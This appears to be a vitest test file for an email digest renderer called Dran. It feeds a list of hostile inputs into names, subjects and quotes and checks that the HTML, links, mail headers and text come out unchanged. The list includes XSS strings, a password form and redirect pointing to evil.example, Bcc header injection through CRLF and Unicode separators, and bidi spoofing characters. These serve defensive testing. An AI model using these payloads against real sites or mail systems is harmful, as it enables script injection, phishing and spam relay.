import { digest } from "@dran/core/digest/digest.ts";
import { renderHtml } from "@dran/core/digest/html.ts";
import { renderText } from "@dran/core/digest/text.ts";
import { de } from "@dran/core/locales/de/index.ts";
import { locales } from "@dran/core/locales/index.ts";
import { composeDigest } from "@dran/core/outbox/mail.ts";
import PostalMime from "postal-mime";
import { describe, expect, test } from "vitest";
import { elementsOf, shapeOf } from "../../support/html.ts";
import { anna, awaiting, meetup, owed, promised, setting, suggestion, week } from "../../support/suggestions.ts";

/** Names, subjects and sentences somebody could send to change what the owner sees. */
const hostile: readonly { name: string; text: string }[] = [
  { name: "a script", text: "<script>alert(1)</script>" },
  { name: "a script in upper case", text: "<SCRIPT SRC=//evil.example></SCRIPT>" },
  { name: "an image that runs", text: "<img src=x onerror=alert(1)>" },
  { name: "an svg that runs", text: "<svg/onload=alert(1)>" },
  { name: "an attribute broken out of, double quote", text: '"><a href="https://evil.example">click</a>' },
  { name: "an attribute broken out of, single quote", text: "'><b>x</b>" },
  { name: "an event attribute", text: '" onmouseover="alert(1)' },
  { name: "a style that hides the rest", text: "</p><style>*{display:none}</style>" },
  { name: "a comment that hides the rest", text: "<!-- " },
  { name: "a conditional comment", text: "<!--[if mso]><b>x</b><![endif]-->" },
  { name: "the end of the page", text: "</td></tr></table></body></html>" },
  { name: "a frame", text: "<iframe src=https://evil.example>" },
  { name: "a form", text: "<form action=https://evil.example><input name=password></form>" },
  { name: "a base address", text: "<base href=https://evil.example/>" },
  { name: "a redirect", text: '<meta http-equiv=refresh content="0;url=https://evil.example">' },
  { name: "cdata", text: "<![CDATA[<b>x</b>]]>" },
  { name: "a processing instruction", text: "<?xml version='1.0'?>" },
  { name: "entities that decode to markup", text: "&lt;b&gt;x&lt;/b&gt; &#60;b&#62;" },
  { name: "an unfinished entity", text: "x &ampamp &#x3c" },
  { name: "an open tag without an end", text: "<a href=" },
  { name: "a header by CRLF", text: "Jan\r\nBcc: victim@evil.example" },
  { name: "a header by a bare LF", text: "Jan\nBcc: victim@evil.example" },
  { name: "a header by a bare CR", text: "Jan\rBcc: victim@evil.example" },
  { name: "a header by a Unicode line separator", text: "Jan\u2028Bcc: victim@evil.example" },
  { name: "a header by NEL and vertical tab", text: "Jan\u0085Bcc: victim@evil.example\u000BX: y" },
  { name: "an empty line and a body", text: "Jan\r\n\r\n<html>other</html>" },
  { name: "an encoded word", text: "=?UTF-8?Q?Jan=0D=0ABcc:_victim=40evil.example?=" },
  { name: "a right-to-left override", text: "Jan \u202Egnp.exe" },
  { name: "an isolate that is never closed", text: "\u2066\u2067\u2068Jan" },
  {
    name: "all twelve bidi controls",
    text: "J\u061C\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069an",
  },
  { name: "zero-width characters", text: "J\u200Ba\u2060n\uFEFF \u00AD" },
  { name: "tag characters", text: `Jan${String.fromCodePoint(0xe0041, 0xe0042)}` },
  { name: "half a surrogate pair", text: "Jan \uD83D and \uDE00" },
  { name: "null and escape", text: "J\u0000a\u001B[31mn" },
  { name: "Hebrew and Arabic between Latin", text: "שלום Jan مرحبا" },
  { name: "a host name", text: "www.evil.example/login" },
  { name: "a link", text: "https://evil.example/?a=1&b=2" },
  { name: "a mailto with a header", text: "x@evil.example?bcc=victim@evil.example&body=hi" },
  { name: "javascript", text: "javascript:alert(1)" },
  { name: "template holes", text: "{date} {{y}} {dir|euch|Ihnen} $& $1 %s" },
  { name: "a megabyte", text: `${"A".repeat(500_000)}<b>${"B".repeat(500_000)}` },
];

/** The same week, with `text` in every place that somebody else can fill. */
function weekOf(text: string) {
  const base = week([], anna);
  const frame = setting({ subject: text, salutation: "Lieber Jan,", signedAs: "Anna", address: "informal" });
  const person = { contactName: text, setting: frame };
  const made = week(
    [
      suggestion({
        id: "a",
        ...person,
        evidence: [promised(text, "send", "2026-03-03", { dueOn: "2026-03-06", daysLate: 4 })],
      }),
      suggestion({ id: "b", ...person, evidence: [owed(text, "2026-03-03", 7)] }),
      suggestion({ id: "c", ...person, evidence: [awaiting(text, "2026-03-03", 7)] }),
      suggestion({
        id: "d",
        ...person,
        type: "meetup",
        evidence: [meetup("event", text, ["2026-03-18", "2026-03-19"], text)],
      }),
    ],
    anna,
  );
  return { ...base, ...made, kept: [{ contactName: text, quote: text, at: "2026-03-05T09:00:00Z" }], faults: [text] };
}

const benign = digest(weekOf("Jan Petersen fragt nach dem Papier"), locales);
const shape = shapeOf(renderHtml(benign, de));
const lines = renderText(benign, de)
  .split("\n")
  .filter((line) => /^\S/.test(line)).length;

async function headersOf(mail: Uint8Array) {
  return (await PostalMime.parse(mail)).headers.map(({ key }) => key);
}

describe.each(hostile)("$name", ({ text }) => {
  const made = digest(weekOf(text), locales);
  const html = renderHtml(made, de);

  test("leaves the element tree as harmless words do", () => expect(shapeOf(html)).toEqual(shape));

  test("opens no link but a mail to the contact, with a subject and a body", () => {
    const links = elementsOf(html).flatMap(({ attributes: { href } }) => (href === undefined ? [] : [href]));
    expect(links).toHaveLength(4);
    for (const href of links) {
      expect(href).toMatch(/^mailto:jan\.petersen@kontor\.example\?subject=[\w%.~*-]*&amp;body=[\w%.~*-]*$/);
      expect(href.replaceAll("&amp;", "&").length).toBeLessThanOrEqual(1800);
    }
    const loading = elementsOf(html).filter(
      ({ attributes: { src, action, background } }) => src ?? action ?? background,
    );
    expect(loading).toEqual([]);
  });

  test("leaves the headers of the mail as they were", async () => {
    const [given, harmless] = [await composeDigest(made, de), await composeDigest(benign, de)];
    expect(await headersOf(given)).toEqual(await headersOf(harmless));
    expect((await PostalMime.parse(given)).to?.map(({ address }) => address)).toEqual(anna.addresses);
  });

  test("shows no control, bidi or invisible character but Dran's own", () => {
    const shown = html.replaceAll("\u200B", "").replace(/[\u2068\u2069]/gu, "");
    expect(shown).not.toMatch(
      /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066\u2067\u2060\uFEFF]/u,
    );
    expect(shown).not.toMatch(/[\uD800-\uDFFF]/u); // with the u flag: halves of a pair only
    expect(html.split("\u2068")).toHaveLength(html.split("\u2069").length);
  });

  test("adds no line of its own to the text", () => {
    expect(
      renderText(made, de)
        .split("\n")
        .filter((line) => /^\S/.test(line)).length,
    ).toBeLessThanOrEqual(lines + 12);
    expect(renderText(made, de)).not.toMatch(/^(?:Bcc|X):/mu);
  });

  test("stays under 100 KB", () => expect(Buffer.byteLength(html)).toBeLessThan(100_000));
});

test("no host name is left for a mail program to make a link of", () => {
  const text = renderText(digest(weekOf("evil.example and https://evil.example/x and a@evil.example"), locales), de);
  const shown = text.replace(/mailto:\S+|^.*An: .*$/gmu, "");
  expect(shown).not.toMatch(/evil\.example|https:\/\/|a@evil/u);
});
